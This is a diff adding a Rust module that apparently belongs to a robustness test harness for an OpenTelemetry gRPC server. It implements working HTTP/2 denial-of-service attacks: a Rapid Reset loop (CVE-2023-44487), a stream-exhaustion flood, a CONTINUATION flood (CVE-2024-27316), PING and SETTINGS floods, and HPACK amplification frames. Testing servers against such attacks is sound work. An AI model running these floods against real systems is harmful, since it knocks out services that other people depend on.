@@ -1,0 +1,133 @@
+//! Attacks in HTTP/2, frame by frame.
+
+use super::Attack;
+use super::http1::connect;
+use std::io::{Read, Write};
+use std::net::TcpStream;
+use std::time::Duration;
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+
+const DATA: u8 = 0;
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const PING: u8 = 6;
+const WINDOW_UPDATE: u8 = 8;
+const CONTINUATION: u8 = 9;
+
+const END_STREAM: u8 = 1;
+const END_HEADERS: u8 = 4;
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = (payload.len() as u32).to_be_bytes();
+    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
+    bytes.extend_from_slice(&stream.to_be_bytes());
+    bytes.extend_from_slice(payload);
+    bytes
+}
+
+/// Headers of a call, none of them compressed.
+fn call() -> Vec<u8> {
+    let path = "/opentelemetry.proto.collector.trace.v1.TraceService/Export";
+    let headers = [
+        (":method", "POST"),
+        (":scheme", "http"),
+        (":path", path),
+        (":authority", "localhost"),
+        ("content-type", "application/grpc"),
+        ("te", "trailers"),
+    ];
+    let text = |text: &str| [&[text.len() as u8], text.as_bytes()].concat();
+    headers.iter().flat_map(|(name, value)| [vec![0], text(name), text(value)].concat()).collect()
+}
+
+/// A connection on which both sides have said their settings.
+fn connection(attack: &Attack<'_>) -> Option<TcpStream> {
+    let mut stream = connect(attack.server.otlp_grpc)?;
+    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).ok()?;
+    Some(stream)
+}
+
+/// Takes what the server says without waiting for it; whether it has closed.
+fn is_closed(stream: &mut TcpStream) -> bool {
+    let _ = stream.set_nonblocking(true);
+    let mut bytes = [0; 64 << 10];
+    let closed = loop {
+        match stream.read(&mut bytes) {
+            Ok(0) => break true,
+            Ok(_) => {}
+            Err(error) => break error.kind() != std::io::ErrorKind::WouldBlock,
+        }
+    };
+    let _ = stream.set_nonblocking(false);
+    closed
+}
+
+/// Calls that are begun and reset at once (CVE-2023-44487).
+pub(super) fn rapid_reset(attack: Attack<'_>) {
+    let headers = call();
+    while attack.goes_on() {
+        let Some(mut stream) = connection(&attack) else { continue };
+        for round in 0..100 {
+            let mut bytes = Vec::new();
+            for at in 0..100 {
+                let id = 1 + 2 * (round * 100 + at);
+                bytes.extend(frame(HEADERS, END_HEADERS, id, &headers));
+                bytes.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
+            }
+            if stream.write_all(&bytes).is_err() || is_closed(&mut stream) {
+                break;
+            }
+        }
+    }
+}
+
+/// Calls that begin, send a little, and never end; more than may be open.
+pub(super) fn many_streams(attack: Attack<'_>) {
+    let headers = call();
+    while attack.goes_on() {
+        let mut open = Vec::new();
+        for _ in 0..8 {
+            let Some(mut stream) = connection(&attack) else { continue };
+            for at in 0..300 {
+                let id = 1 + 2 * at;
+                // It announces 16 MiB and sends a kilobyte.
+                let begin = [&[0, 1, 0, 0, 0][..], &[0; 1000]].concat();
+                let bytes = [frame(HEADERS, END_HEADERS, id, &headers), frame(DATA, 0, id, &begin)].concat();
+                if stream.write_all(&bytes).is_err() {
+                    break;
+                }
+            }
+            open.push(stream);
+        }
+        std::thread::sleep(Duration::from_millis(500));
+        let _closed = open.iter_mut().filter_map(|stream| is_closed(stream).then_some(())).count();
+    }
+}
+
+/// Frames that make work and say nothing, and some that cannot be.
+pub(super) fn odd_frames(mut attack: Attack<'_>) {
+    let headers = call();
+    while attack.goes_on() {
+        let Some(mut stream) = connection(&attack) else { continue };
+        let piece = match attack.dice.below(7) {
+            0 => frame(PING, 0, 0, &[7; 8]).repeat(1000),
+            1 => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 1]).repeat(1000),
+            2 => frame(WINDOW_UPDATE, 0, 0, &0x7FFF_FFFF_u32.to_be_bytes()).repeat(3),
+            // Headers that never end (CVE-2024-27316).
+            3 => {
+                [frame(HEADERS, 0, 1, &headers), frame(CONTINUATION, 0, 1, &[0; 1000]).repeat(1000)].concat()
+            }
+            // A table of names that is blown up by references.
+            4 => frame(HEADERS, END_HEADERS | END_STREAM, 1, &[0x82; 16_000]),
+            5 => frame(DATA, 0, 1, &vec![0; 16_384]).repeat(50),
+            _ => (0..2000).map(|_| attack.dice.below(256) as u8).collect(),
+        };
+        for _ in 0..20 {
+            if stream.write_all(&piece).is_err() || is_closed(&mut stream) {
+                break;
+            }
+        }
+    }
+}
